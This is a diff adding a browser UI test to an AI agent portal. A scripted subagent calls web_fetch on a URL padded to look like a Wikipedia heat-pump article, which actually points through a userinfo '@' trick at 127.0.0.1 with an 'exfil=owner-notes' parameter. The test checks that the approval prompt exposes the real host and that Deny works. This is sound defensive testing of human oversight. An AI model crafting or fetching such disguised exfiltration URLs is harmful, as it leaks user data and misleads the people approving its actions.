@@ -93,3 +93,41 @@ def test_the_sign_in_and_admin_pages_break_no_policy(portal, page):
     sign_in(page, base_url=portal.base_url, user=portal.users[0])
 
     assert _violations(page) == []
+
+
+# A URL that starts like a Wikipedia article and names another host 3,000
+# characters on, past where a short prompt would stop.
+LONG_URL = (
+    "https://en.wikipedia.org%2Fwiki%2FHeat_pump%3Fsection%3D"
+    + "Heat_pump_efficiency_and_the_coefficient_of_performance_" * 52
+    + "@127.0.0.1:8403/page?exfil=owner-notes"
+)
+
+
+@pytest.mark.parametrize("scheme", ["light", "dark"])
+@pytest.mark.parametrize("width", [1366, 390])
+def test_the_approval_prompt_shows_the_host_a_long_url_names_first_and_the_url_whole(
+    portal, model_server, new_page, screenshot, width, scheme
+):
+    model_server.add(
+        Text(call("call_subagent", agent="crawl_agent", instruction="Read the heat pump article")),
+        Text(call("web_fetch", url=LONG_URL), chunk_size=1000),
+        Text("The fetch was denied."),
+        Text("I could not read the article."),
+    )
+    page = new_page(viewport={"width": width, "height": 900 if width > 1000 else 844}, color_scheme=scheme)
+    sign_in(page, base_url=portal.base_url, user=portal.users[0])
+    ask(page, question="How efficient are heat pumps?")
+
+    prompt = page.locator("form.permission")
+    expect(prompt.locator(".fetch-host")).to_have_text("127.0.0.1:8403", timeout=TURN_TIMEOUT)
+    expect(prompt.locator(".fetch-refused")).to_contain_text("a user name or password before its host")
+    url = prompt.locator(".param-value")
+    expect(url).to_have_text(LONG_URL)
+    # Folded, never cut: the URL scrolls in its box and nothing runs off the side of the page.
+    assert url.evaluate("box => box.scrollHeight > box.clientHeight")
+    assert page.evaluate("document.documentElement.scrollWidth <= window.innerWidth")
+    prompt.scroll_into_view_if_needed()
+    screenshot(page, name=f"{width}-{scheme}")
+    prompt.get_by_role("button", name="Deny").click()
+    expect(page.locator("article.turn")).to_have_attribute("data-status", "completed", timeout=TURN_TIMEOUT)
